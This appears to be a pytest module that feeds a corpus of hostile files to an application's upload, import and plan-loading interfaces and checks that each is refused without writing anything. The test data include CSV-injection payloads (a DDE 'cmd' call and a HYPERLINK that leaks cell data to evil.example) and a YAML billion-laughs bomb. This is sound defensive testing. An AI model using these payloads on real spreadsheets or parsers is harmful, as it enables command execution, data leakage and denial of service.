"""Every hostile file of the corpus through every face that accepts files (issue 20).

Each file must be refused with its message (Chinese, then the English fragment the corpus names),
nothing written (the rows of the register, its imports, its files and the audit counted before and
after), nothing kept in the file store, and the process healthy: a normal file afterwards still
imports. The figure "hostile files × faces tried, refused" is printed in the test summary
(tests/hostile/conftest.py).
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from fastapi.testclient import TestClient
from sqlalchemy import Engine, func, select

from lantian.auth.models import AuditEntry
from lantian.auth.permissions import Principal
from lantian.config import get_settings
from lantian.db.engine import transaction
from lantian.errors import ServiceError
from lantian.files import FileStore
from lantian.sources import service
from lantian.sources.demo import png_photo
from lantian.sources.kinds.scattered import ScatteredEnterprise
from lantian.sources.models import SourceFile, SourceImport
from lantian.sources.registry import kind_of
from lantian.supervision import service as supervision
from lantian.supervision.models import CaseEvidence, InspectionCase
from lantian.web.i18n import LANGUAGE_COOKIE
from tests.hostile.corpus import HTML_PAGE, SMALL_LIMIT, Hostile, evidence_corpus, table_corpus
from tests.web.test_source_pages import HEADER, KIND, Site, csv_of, firm

pytestmark = pytest.mark.db
OFFICE = Principal("office", "campaign_office")
TABLES = table_corpus(HEADER)
EVIDENCE = evidence_corpus()


@pytest.fixture(autouse=True)
def small_upload_limit(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """The corpus runs under a 64 KiB upload limit (a setting), so "oversized" stays cheap."""
    monkeypatch.setenv("LANTIAN_UPLOAD_MAX_BYTES", str(SMALL_LIMIT))
    get_settings.cache_clear()
    yield
    get_settings.cache_clear()


def _words(text: str) -> str:
    return re.sub(r"\s+", " ", html.unescape(text))


@dataclass
class Outcome:
    refused: bool
    message: str


def _service_outcome(call: Callable[[], object]) -> Outcome:
    try:
        call()
    except ServiceError as error:
        return Outcome(True, _words(str(error)))
    return Outcome(False, "")


def _http_outcome(answer: Any) -> Outcome:
    return Outcome(400 <= answer.status_code < 500, _words(answer.text))


def _cli_outcome(done: Result) -> Outcome:
    # Some command groups print the refusal, others leave the ServiceError to `lantian`'s main,
    # which prints its message (the runner here hands the exception back instead).
    shown = done.output
    if isinstance(done.exception, ServiceError):
        shown += str(done.exception)
    return Outcome(done.exit_code not in (0, None), _words(shown))


class Faces:
    """The faces of one register kind (scattered enterprises) over one database and data folder."""

    def __init__(self, engine: Engine, data_dir: Path, cli: Callable[..., Result]) -> None:
        self.site = Site(engine, data_dir)
        self.data_dir = data_dir
        self.cli = cli
        self.api = TestClient(self.site.app)
        self.bearer = {"Authorization": f"Bearer {self.site.token}"}
        # Signed in before counting (the sign-in is audited); the page in English, so that the
        # refusal shown is the English half the corpus names (the Chinese is the same message's).
        self.site.client("office")[0].cookies.set(LANGUAGE_COOKIE, "en")
        self.kind = kind_of(KIND)

    # --- what is written ------------------------------------------------------------------------

    def written(self) -> dict[str, int]:
        with self.site.sessions() as session:
            counts = {
                model.__name__: int(session.scalar(select(func.count()).select_from(model)) or 0)
                for model in (
                    ScatteredEnterprise,
                    SourceImport,
                    SourceFile,
                    AuditEntry,
                    InspectionCase,
                    CaseEvidence,
                )
            }
        store = self.data_dir / "files"
        counts["stored files"] = (
            sum(1 for p in store.rglob("*") if p.is_file()) if store.exists() else 0
        )
        return counts

    # --- table imports --------------------------------------------------------------------------

    def import_table(self, face: str, name: str, content: bytes) -> Outcome:
        if face == "service":
            return _service_outcome(lambda: self._import_service(name, content))
        if face == "page":
            return _http_outcome(self.site.upload("office", content, filename=name))
        if face == "api":
            return _http_outcome(
                self.api.post(
                    f"/api/v1/sources/{KIND}/import",
                    headers=self.bearer,
                    files={"upload": (name, content)},
                )
            )
        assert face == "cli"
        folder = self.data_dir / "cli-files"
        folder.mkdir(exist_ok=True)
        path = folder / name
        path.write_bytes(content)
        try:
            return _cli_outcome(self.cli("sources", "import", KIND, str(path), "--as", "office"))
        finally:
            path.unlink()

    def _import_service(self, name: str, content: bytes) -> None:
        from lantian.plan import default_plan

        with transaction(self.site.sessions) as session:
            service.import_register(
                session,
                OFFICE,
                self.kind,
                content,
                name,
                plan=default_plan(),
                store=FileStore(self.data_dir),
            )

    # --- files kept with a step -----------------------------------------------------------------

    def step_with_file(
        self, face: str, record_id: int, key: str, name: str, data: bytes
    ) -> Outcome:
        if face == "service":

            def call() -> None:
                with transaction(self.site.sessions) as session:
                    service.take_step(
                        session,
                        OFFICE,
                        self.kind,
                        record_id,
                        service.StepInput(event="start"),
                        files=[service.UploadedFile(name, data)],
                        store=FileStore(self.data_dir),
                    )

            return _service_outcome(call)
        if face == "page":
            return _http_outcome(
                self.site.post(
                    "office",
                    f"/sources/{KIND}/{record_id}/steps",
                    {"event": "start"},
                    files=[("files", (name, data))],
                )
            )
        if face == "api":
            return _http_outcome(
                self.api.post(
                    f"/api/v1/sources/{KIND}/{record_id}/steps",
                    headers=self.bearer,
                    data={"event": "start"},
                    files=[("files", (name, data))],
                )
            )
        assert face == "cli"
        folder = self.data_dir / "cli-files"
        folder.mkdir(exist_ok=True)
        path = folder / name
        path.write_bytes(data)
        try:
            return _cli_outcome(
                self.cli(
                    "sources", "step", KIND, key, "start", "--file", str(path), "--as", "office"
                )
            )
        finally:
            path.unlink()

    # --- evidence of an inspection case ---------------------------------------------------------

    def case_with_evidence(self, face: str, name: str, data: bytes) -> Outcome:
        from datetime import UTC, datetime

        if face == "page":
            fields = {"title": "料堆未覆盖", "source": "inspection_team",
                      "area_code": "410183100", "severity": "serious"}  # fmt: skip
            return _http_outcome(
                self.site.post("office", "/cases/new", fields, files=[("evidence", (name, data))])
            )
        if face == "progress-report-service":
            from lantian.campaign import service as campaign

            return _service_outcome(
                lambda: campaign.store_evidence(self.data_dir, campaign.EvidenceUpload(name, data))
            )
        if face == "service":

            def call() -> None:
                with transaction(self.site.sessions) as session:
                    supervision.record_case(
                        session,
                        OFFICE,
                        supervision.CaseDraft(
                            source="inspection_team",
                            title="料堆未覆盖",
                            area_code="410183100",
                            severity="serious",
                        ),
                        datetime(2017, 11, 20, 2, tzinfo=UTC),
                        evidence=[supervision.EvidenceFile(name, data)],
                        data_dir=self.data_dir,
                    )

            return _service_outcome(call)
        assert face == "cli"
        folder = self.data_dir / "cli-files"
        folder.mkdir(exist_ok=True)
        path = folder / name
        path.write_bytes(data)
        try:
            return _cli_outcome(
                self.cli(
                    "cases",
                    "add",
                    "--title",
                    "料堆未覆盖",
                    "--area",
                    "410183100",
                    "--unit",
                    "zjj",
                    "--evidence",
                    str(path),
                )
            )
        finally:
            path.unlink()


@pytest.fixture
def faces(db_engine: Engine, tmp_path: Path, lantian: Callable[..., Result]) -> Faces:
    return Faces(db_engine, tmp_path, lantian)


def _applies(hostile: Hostile, face: str) -> bool:
    # The command line opens a path its operator typed: a hostile *name* cannot reach it; over
    # HTTP a NUL in a multipart file name arrives percent-encoded ("%00"), a harmless name.
    if hostile.named and face == "cli":
        return False
    return not (hostile.key == "name-nul" and face in {"page", "api"})


def _check_refusals(
    corpus: list[Hostile],
    face: str,
    faces: Faces,
    attempt: Callable[[Hostile], Outcome],
    record_property: Callable[[str, object], None],
) -> None:
    failures, tried = [], 0
    for hostile in corpus:
        if not _applies(hostile, face):
            continue
        tried += 1
        before = faces.written()
        outcome = attempt(hostile)
        after = faces.written()
        if not outcome.refused:
            failures.append(f"{hostile.key}: accepted")
        elif hostile.refusal not in outcome.message:
            failures.append(
                f"{hostile.key}: refused without {hostile.refusal!r}: {outcome.message[:300]}"
            )
        elif face != "page" and not re.search(
            r"[\u4e00-\u9fff]", outcome.message.split(hostile.refusal)[0]
        ):
            failures.append(
                f"{hostile.key}: no Chinese before the English: {outcome.message[:300]}"
            )
        if after != before:
            failures.append(f"{hostile.key}: wrote {before} -> {after}")
    record_property("hostile_tried", tried)
    record_property("hostile_refused", tried - len(failures))
    assert not failures, "\n".join(failures)


@pytest.mark.parametrize("face", ["service", "page", "api", "cli"])
def test_every_hostile_table_is_refused_and_a_good_one_imports_after(
    faces: Faces, face: str, record_property: Callable[[str, object], None]
) -> None:
    _check_refusals(
        TABLES,
        face,
        faces,
        lambda hostile: faces.import_table(face, hostile.name, hostile.content),
        record_property,
    )
    good = faces.import_table(face, "台账.csv", csv_of([firm(1), firm(2)]))
    assert not good.refused, good.message
    assert faces.written()["ScatteredEnterprise"] == 2


@pytest.mark.parametrize("face", ["service", "page", "api", "cli"])
def test_every_hostile_file_of_a_step_is_refused_and_a_photo_is_kept_after(
    faces: Faces, face: str, record_property: Callable[[str, object], None]
) -> None:
    assert not faces.import_table("service", "台账.csv", csv_of([firm(1)])).refused
    record_id = faces.site.entry_id("SLW-T-0001")
    _check_refusals(
        EVIDENCE,
        face,
        faces,
        lambda hostile: faces.step_with_file(
            face, record_id, "SLW-T-0001", hostile.name, hostile.content
        ),
        record_property,
    )
    photo = png_photo(4, 4, (9, 9, 9), 0)
    good = faces.step_with_file(face, record_id, "SLW-T-0001", "现场.png", photo)
    assert not good.refused, good.message
    assert faces.written()["SourceFile"] == 1


@pytest.mark.parametrize("face", ["service", "page", "cli", "progress-report-service"])
def test_every_hostile_evidence_of_a_case_is_refused_and_a_photo_is_kept_after(
    faces: Faces, face: str, record_property: Callable[[str, object], None]
) -> None:
    _check_refusals(
        EVIDENCE,
        face,
        faces,
        lambda hostile: faces.case_with_evidence(face, hostile.name, hostile.content),
        record_property,
    )
    good = faces.case_with_evidence(face, "现场.jpg", b"\xff\xd8\xff\xe0 a photo")
    assert not good.refused, good.message
    if face == "progress-report-service":  # kept in the store; the report's row is the caller's
        assert faces.written()["stored files"] == 1
    else:
        assert faces.written()["CaseEvidence"] == 1


# --- formula injection: cells imported as text, exported as text ------------------------------

#: Cells a spreadsheet would run (OWASP "CSV injection"): DDE, a formula, a hyperlink, a sum.
INJECTED = {
    "name": "=cmd|' /C calc'!A0",
    "address": '+HYPERLINK("http://evil.example/"&A1,"点击")',
    "industry": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _formula_cells(workbook_bytes_: bytes) -> list[str]:
    import io
    import zipfile

    from openpyxl import load_workbook

    with zipfile.ZipFile(io.BytesIO(workbook_bytes_)) as archive:
        formulas = [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]
    book = load_workbook(io.BytesIO(workbook_bytes_))
    cells = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    return formulas + cells


@pytest.mark.parametrize("face", ["service", "api", "cli"])
def test_formula_cells_imported_are_exported_as_text(
    faces: Faces, face: str, tmp_path: Path
) -> None:
    row = (
        f'SLW-F-0001,"{INJECTED["name"].replace(chr(34), chr(34) * 2)}",410183100,hbj,'
        f'"{INJECTED["address"].replace(chr(34), chr(34) * 2)}",113.3,34.5,2017-09-30,取缔,'
        f'"{INJECTED["industry"]}",,否'
    )
    done = faces.import_table("service", "台账.csv", csv_of([row]))
    assert not done.refused, done.message
    with faces.site.sessions() as session:
        kept = session.scalars(select(ScatteredEnterprise)).one()
        assert (kept.name, kept.address, kept.industry) == tuple(INJECTED.values())

    exports: dict[str, bytes] = {}
    for suffix in (".csv", ".xlsx"):
        if face == "service":
            with faces.site.sessions() as session:
                exports[suffix] = service.export_register(session, OFFICE, faces.kind, suffix)
        elif face == "api":
            answer = faces.api.get(
                f"/api/v1/sources/{KIND}/export",
                headers=faces.bearer,
                params={"format": suffix[1:]},
            )
            assert answer.status_code == 200, answer.text
            exports[suffix] = answer.content
        else:
            path = tmp_path / f"export{suffix}"
            assert faces.cli("sources", "export", KIND, str(path), "--as", "office").exit_code == 0
            exports[suffix] = path.read_bytes()

    import csv
    import io

    text = exports[".csv"].decode("utf-8-sig")
    (header, record) = list(csv.reader(io.StringIO(text)))
    cells = dict(zip(header, record, strict=True))
    shown = [v for v in cells.values() if v.lstrip("'") in INJECTED.values()]
    assert len(shown) == 3 and all(v.startswith("'") for v in shown), cells
    assert not [v for v in record if v[:1] in ("=", "+", "@", "\t", "\r")], record
    assert _formula_cells(exports[".xlsx"]) == []
    from openpyxl import load_workbook

    values = {
        c.value for r in load_workbook(io.BytesIO(exports[".xlsx"])).active.iter_rows() for c in r
    }
    assert set(INJECTED.values()) <= values  # kept as the text it is, not altered


def test_every_workbook_export_stores_formula_like_text_as_text() -> None:
    """The one sanitiser every workbook passes (lantian.tabular.workbook_bytes)."""
    import io

    from openpyxl import Workbook, load_workbook

    from lantian.tabular import csv_safe, workbook_bytes

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", -5, "正常"])
    book.create_sheet("二").append(['=HYPERLINK("http://evil.example")'])
    data = workbook_bytes(book)
    assert _formula_cells(data) == []
    again = load_workbook(io.BytesIO(data))
    assert again.worksheets[0]["A1"].value == "=cmd|' /C calc'!A0"
    assert again.worksheets[1]["A1"].value == '=HYPERLINK("http://evil.example")'
    assert [csv_safe(v) for v in ("=1", "+1+1", "-2+3", "@A", "\t=1", "\r=1", -5, "-5", "正常")] == [
        "'=1", "'+1+1", "'-2+3", "'@A", "'\t=1", "'\r=1", "-5", "-5", "正常"
    ]  # fmt: skip


# --- plan folders: `lantian plan load` and the service behind it ------------------------------


def _plan_corpus() -> list[tuple[str, str, bytes, str]]:
    """(key, file replaced, its new bytes, the refusal) of a plan folder otherwise whole."""
    bomb = "lol: &l0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 10)}]\n" for n in range(1, 10)
    )
    return [
        ("yaml-billion-laughs", "tasks.yaml", bomb.encode(), "anchors and aliases"),
        ("oversized-yaml", "plan.yaml", b"", "too large"),  # made sparse below
        ("yaml-not-utf8", "plan.yaml", "计划".encode("utf-16"), "not UTF-8"),
        ("csv-that-is-png", "units.csv", png_photo(4, 4, (1, 2, 3), 0), "is a PNG file"),
        ("csv-undecodable", "stations.csv", b"code,name\n\x80\xff\x80\n", "cannot decode"),
        ("csv-that-is-html", "areas.csv", HTML_PAGE, "is a web page"),
    ]


@pytest.mark.parametrize("face", ["service", "cli"])
def test_every_hostile_plan_folder_is_refused_and_the_plan_loads_after(
    db_engine: Engine,
    tmp_path: Path,
    lantian: Callable[..., Result],
    monkeypatch: pytest.MonkeyPatch,
    face: str,
    record_property: Callable[[str, object], None],
) -> None:
    import shutil

    from lantian.campaign import service as campaign
    from lantian.campaign.models import CampaignPlan, CampaignUnit
    from lantian.db.engine import session_factory
    from lantian.plan import default_plan
    from lantian.plan.loader import read_plan
    from lantian.plan.reading import MAX_PLAN_FILE_BYTES

    sessions = session_factory(db_engine)
    original = default_plan().folder

    def written() -> tuple[int, ...]:
        with sessions() as session:
            return tuple(
                int(session.scalar(select(func.count()).select_from(m)) or 0)
                for m in (CampaignPlan, CampaignUnit, AuditEntry)
            )

    def load(folder: Path) -> Outcome:
        if face == "cli":
            return _cli_outcome(lantian("plan", "load", str(folder)))

        def call() -> None:
            with transaction(sessions) as session:
                campaign.load_plan(session, read_plan(folder), "test")

        return _service_outcome(call)

    failures = []
    corpus = _plan_corpus()
    for key, file, content, refusal in corpus:
        folder = tmp_path / key
        shutil.copytree(original, folder)
        (folder / file).write_bytes(content)
        if key == "oversized-yaml":
            with (folder / file).open("r+b") as handle:  # 33 MiB of zeros, sparse on disk
                handle.truncate(MAX_PLAN_FILE_BYTES + 2**20)
        before = written()
        outcome = load(folder)
        if not outcome.refused or refusal not in outcome.message:
            failures.append(f"{key}: {outcome}")
        if written() != before:
            failures.append(f"{key}: wrote {before} -> {written()}")
    record_property("hostile_tried", len(corpus))
    record_property("hostile_refused", len(corpus) - len({f.split(":")[0] for f in failures}))
    assert not failures, "\n".join(failures)
    good = tmp_path / "good"
    shutil.copytree(original, good)
    assert not load(good).refused
    assert written()[0] == 1


# --- the other importers: weather, emissions inventory, execution facts ------------------------

OTHER_FACES = [
    ("weather", "service"),
    ("weather", "page"),
    ("weather", "cli"),
    ("inventory", "service"),
    ("inventory", "cli"),
    ("electricity", "service"),
    ("electricity", "cli"),
]


def _every_table_count(engine: Engine, data_dir: Path) -> dict[str, int]:
    """Rows of every table of the schema, and the files in the store: "nothing written"."""
    from lantian.db.base import Base

    with engine.connect() as connection:
        counts = {
            table.name: int(connection.scalar(select(func.count()).select_from(table)) or 0)
            for table in Base.metadata.sorted_tables
        }
    store = data_dir / "files"
    counts["stored files"] = (
        sum(1 for p in store.rglob("*") if p.is_file()) if store.exists() else 0
    )
    return counts


@pytest.mark.parametrize(("importer", "face"), OTHER_FACES)
def test_every_hostile_table_is_refused_by_the_other_importers(
    db_engine: Engine,
    tmp_path: Path,
    lantian: Callable[..., Result],
    importer: str,
    face: str,
    record_property: Callable[[str, object], None],
) -> None:
    from lantian.emissions.inventory_import import import_inventory
    from lantian.execution.imports import import_facts
    from lantian.weather.imports import import_weather

    site = Site(db_engine, tmp_path)
    site.client("office")[0].cookies.set(LANGUAGE_COOKIE, "en")
    corpus = table_corpus("a,b")

    def attempt(hostile: Hostile) -> Outcome:
        if face == "cli":
            path = tmp_path / "cli-files" / hostile.name
            path.parent.mkdir(exist_ok=True)
            path.write_bytes(hostile.content)
            command = {
                "weather": ("weather", "import", str(path)),
                "inventory": ("emissions", "import-inventory", str(path)),
                "electricity": ("execution", "import", "electricity", str(path)),
            }[importer]
            try:
                return _cli_outcome(lantian(*command))
            finally:
                path.unlink()
        if face == "page":
            return _http_outcome(
                site.post(
                    "office",
                    "/results/weather/import",
                    {},
                    files={"file": (hostile.name, hostile.content)},
                )
            )

        def call() -> None:
            store = FileStore(tmp_path)
            with transaction(site.sessions) as session:
                if importer == "weather":
                    import_weather(session, OFFICE, hostile.content, hostile.name, store=store)
                elif importer == "inventory":
                    import_inventory(session, "office", hostile.content, hostile.name)
                else:
                    import_facts(
                        session, OFFICE, "electricity", hostile.content, hostile.name, store=store
                    )

        return _service_outcome(call)

    failures, tried = [], 0
    for hostile in corpus:
        if not _applies(hostile, face):
            continue
        tried += 1
        before = _every_table_count(db_engine, tmp_path)
        outcome = attempt(hostile)
        after = _every_table_count(db_engine, tmp_path)
        if not outcome.refused or hostile.refusal not in outcome.message:
            failures.append(f"{hostile.key}: {outcome.refused} {outcome.message[:300]}")
        if after != before:
            changed = {k: (before[k], after[k]) for k in after if before.get(k) != after[k]}
            failures.append(f"{hostile.key}: wrote {changed}")
    record_property("hostile_tried", tried)
    record_property("hostile_refused", tried - len({f.split(":")[0] for f in failures}))
    assert not failures, "\n".join(failures)
